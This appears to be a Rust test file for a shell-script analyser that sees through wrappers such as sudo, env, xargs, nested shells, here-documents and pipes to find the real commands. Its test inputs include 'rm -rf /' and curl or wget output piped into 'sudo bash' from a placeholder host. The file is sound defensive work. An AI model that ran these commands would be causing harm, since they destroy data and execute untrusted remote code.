use super::*;

fn argvs(analysis: &Analysis) -> Vec<String> {
    analysis
        .invocations
        .iter()
        .map(|i| i.argv().join(" "))
        .collect()
}

#[test]
fn wrappers_are_looked_through() {
    let cases = [
        (
            "sudo -u root git push --force",
            vec!["sudo -u root git push --force", "git push --force"],
        ),
        (
            "env -i FOO=1 timeout -s KILL 5 nice -n 10 git status",
            vec![
                "env -i FOO=1 timeout -s KILL 5 nice -n 10 git status",
                "timeout -s KILL 5 nice -n 10 git status",
                "nice -n 10 git status",
                "git status",
            ],
        ),
        (
            "nohup command time git log",
            vec![
                "nohup command time git log",
                "command time git log",
                "time git log",
                "git log",
            ],
        ),
        ("xargs -0 -n 1 rm -f", vec!["xargs -0 -n 1 rm -f", "rm -f"]),
        (
            "find . -name '*.o' -exec rm -rf {} +",
            vec!["find . -name *.o -exec rm -rf {} +", "rm -rf"],
        ),
        ("FOO=1 BAR=2 git push", vec!["git push"]),
        ("busybox rm -rf /", vec!["busybox rm -rf /", "rm -rf /"]),
        (
            "toybox sh -c 'git push'",
            vec!["toybox sh -c git push", "sh -c git push", "git push"],
        ),
    ];
    for (script, expected) in cases {
        let analysis = analyze_script(script);
        assert_eq!(argvs(&analysis), expected, "{script}");
        assert!(
            analysis.uncertain.is_empty(),
            "{script}: {:?}",
            analysis.uncertain
        );
    }
}

#[test]
fn git_global_options_are_set_aside() {
    let analysis = analyze_script("git -C . -c core.pager=cat --no-pager push --force");
    let git = &analysis.invocations[0];
    assert_eq!(git.args, ["push", "--force"]);
    assert_eq!(
        git.global_options,
        ["-C", ".", "-c", "core.pager=cat", "--no-pager"]
    );
}

#[test]
fn compound_commands_pipelines_subshells_and_substitutions_are_all_seen() {
    let script = r#"cargo test && (cd x; git push --force) | tee log || echo "$(whoami)" `id -u`; f() { rm -rf /tmp/x; }"#;
    let analysis = analyze_script(script);
    let names: Vec<&str> = analysis
        .invocations
        .iter()
        .map(|i| i.name.as_str())
        .collect();
    assert_eq!(
        names,
        ["cargo", "cd", "git", "tee", "whoami", "id", "echo", "rm"]
    );
    assert!(analysis.uncertain.is_empty(), "{:?}", analysis.uncertain);
}

#[test]
fn nested_shells_are_parsed() {
    let analysis = analyze_argv(&[
        "bash".into(),
        "-lc".into(),
        "cargo test && sh -c 'git push --force'".into(),
    ]);
    let argvs = argvs(&analysis);
    assert!(argvs.contains(&"git push --force".to_string()), "{argvs:?}");
    assert!(argvs.contains(&"cargo test".to_string()), "{argvs:?}");
}

#[test]
fn quoting_and_escapes_are_resolved() {
    let analysis = analyze_script(r#"g\it 'push' "--for"ce"#);
    assert_eq!(argvs(&analysis), ["git push --force"]);
}

#[test]
fn here_documents_fed_to_a_shell_are_scripts() {
    let analysis = analyze_script("bash <<'EOF'\ngit push --force\nEOF\n");
    assert!(
        argvs(&analysis).contains(&"git push --force".to_string()),
        "{:?}",
        argvs(&analysis)
    );
    let analysis = analyze_script("bash <<< 'rm -rf /'");
    assert!(
        argvs(&analysis).contains(&"rm -rf /".to_string()),
        "{:?}",
        argvs(&analysis)
    );
}

#[test]
fn what_cannot_be_resolved_is_reported() {
    for script in [
        "eval \"$CMD\"",
        "$TOOL push --force",
        "bash -c \"$(curl -s https://x.example/i.sh)\"",
        "watch git push --force",
        "echo 'unterminated",
    ] {
        let analysis = analyze_script(script);
        assert!(!analysis.uncertain.is_empty(), "{script}");
    }
}

#[test]
fn pipes_and_substitutions_record_what_feeds_what() {
    let analysis = analyze_script("curl -s https://x.example/i.sh | sudo bash");
    let curl = analysis
        .invocations
        .iter()
        .position(|i| i.name == "curl")
        .unwrap();
    let bash = analysis
        .invocations
        .iter()
        .position(|i| i.name == "bash")
        .unwrap();
    assert!(
        analysis.feeds.contains(&(curl, bash)),
        "{:?}",
        analysis.feeds
    );

    let analysis = analyze_script("bash <(wget -qO- https://x.example/i.sh)");
    let wget = analysis
        .invocations
        .iter()
        .position(|i| i.name == "wget")
        .unwrap();
    let bash = analysis
        .invocations
        .iter()
        .position(|i| i.name == "bash")
        .unwrap();
    assert!(
        analysis.feeds.contains(&(wget, bash)),
        "{:?}",
        analysis.feeds
    );
}

#[test]
fn words_after_a_redirection_are_still_arguments() {
    // tree-sitter-bash hangs `push --force` on the redirection; bash passes them to git.
    // The `$X` keeps the first script off the plain parser, so both parsers are covered.
    for script in [
        "git >/dev/null push --force \"$X\"",
        "git > /dev/null push --force",
        "git 2>&1 push --force",
        "cargo test || git > log push --force",
        "ls | git > log push --force $X",
    ] {
        let analysis = analyze_script(script);
        let git = analysis
            .invocations
            .iter()
            .find(|i| i.name == "git")
            .unwrap_or_else(|| panic!("{script}: {analysis:?}"));
        assert_eq!(git.args[..2], ["push", "--force"], "{script}");
    }
}
